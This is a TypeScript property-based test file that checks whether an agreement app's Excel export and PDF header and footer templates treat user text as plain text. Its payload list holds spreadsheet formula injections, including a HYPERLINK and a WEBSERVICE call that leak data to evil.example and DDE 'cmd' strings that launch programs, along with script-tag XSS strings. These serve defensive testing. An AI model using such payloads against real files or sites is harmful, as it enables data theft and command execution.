/**
 * User text reaches Excel and the PDF's page header as text only. (The screen and the print view are
 * React, which escapes; test/e2e/security.e2e.ts checks that in the browser.)
 */
import { afterAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeAgreementXlsx } from '../../../src/main/export/xlsx/write-agreement-xlsx';
import { pageTemplates } from '../../../src/shared/export/print-data';
import { createFromTemplate } from '../../../src/shared/workbook/templates';

const dir = mkdtempSync(join(tmpdir(), 'pacto-injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** What spreadsheet and HTML injection payloads start with, and what they carry. */
const prefix = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '＝',
  '<script>',
  '<img src=x onerror=',
  '"><',
  "'",
  '',
);
const body = fc.constantFrom(
  'HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd|"/c notepad"!A1',
  'WEBSERVICE("http://evil.example")',
  'alert(document.domain)</script>',
  '1+1',
  '<b>bold</b>',
); // (no XML entities: exceljs' reader decodes `&amp;lt;` twice, though Excel and the file are right)
const payload = fc.tuple(prefix, body, fc.nat(999)).map(([p, b, n]) => `${p}${b} PWN${n}`);

describe('Excel export', () => {
  it('writes injected text into cells as strings; no formula carries user text', async () => {
    let run = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(payload, { minLength: 5, maxLength: 5 }),
        async ([title, notes, persona, clause, stage]) => {
          const doc = createFromTemplate('b2b', 'en', new Date('2026-01-05T09:00:00Z'));
          doc.meta.title = title!;
          doc.notes = notes!;
          doc.personas[0]!.name = persona!;
          doc.clauses[0]!.title = clause!;
          doc.stages[0]!.name = stage!;
          const path = join(dir, `run-${run++}.xlsx`);
          await writeAgreementXlsx(doc, path, { now: new Date('2026-02-01T10:00:00Z') });
          const book = new ExcelJS.Workbook();
          await book.xlsx.readFile(path);
          const found = new Set<string>();
          for (const ws of book.worksheets) {
            ws.eachRow((row) =>
              row.eachCell((cell) => {
                const formula = cell.formula ?? '';
                expect(formula, `${ws.name}!${cell.address}`).not.toContain('PWN');
                const text = cell.type === ExcelJS.ValueType.RichText ? cell.text : cell.value;
                if (typeof text === 'string' && text.includes('PWN')) {
                  expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
                  for (const p of [title, notes, persona, clause, stage])
                    if (text.includes(p!.replace('\r', '\n').trim())) found.add(p!);
                }
              }),
            );
          }
          // The hostile texts really are in the file (a test that finds nothing proves nothing).
          expect(found.has(clause!) && found.has(persona!)).toBe(true);
        },
      ),
      { seed: 301, numRuns: 12 },
    );
  }, 120_000);
});

describe('PDF page header and footer', () => {
  const decode = (s: string) =>
    s.replace(
      /&(lt|gt|quot|#39|amp);/g,
      (_, e: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[e]!,
    );

  it('carry the title as escaped text: no tag or attribute comes from the user', () => {
    const doc = createFromTemplate('b2b', 'es', new Date('2026-01-05T09:00:00Z'));
    fc.assert(
      fc.property(fc.oneof(payload, fc.string({ maxLength: 200 })), (title) => {
        fc.pre(title.trim() !== '');
        const { headerTemplate, footerTemplate } = pageTemplates({
          doc: { ...doc, meta: { ...doc.meta, title } },
          lang: 'es',
          paper: 'a4',
        });
        for (const html of [headerTemplate, footerTemplate]) {
          // Remove the template's own tags: what is left is text, so it must hold no markup at all.
          const text = html.replace(/<(div|span)( (style|class)="[^"<>]*")*>|<\/(div|span)>/g, '');
          expect(text).not.toMatch(/[<>"]/);
        }
        expect(decode(headerTemplate)).toContain(title);
      }),
      { seed: 302, numRuns: 400 },
    );
  });
});
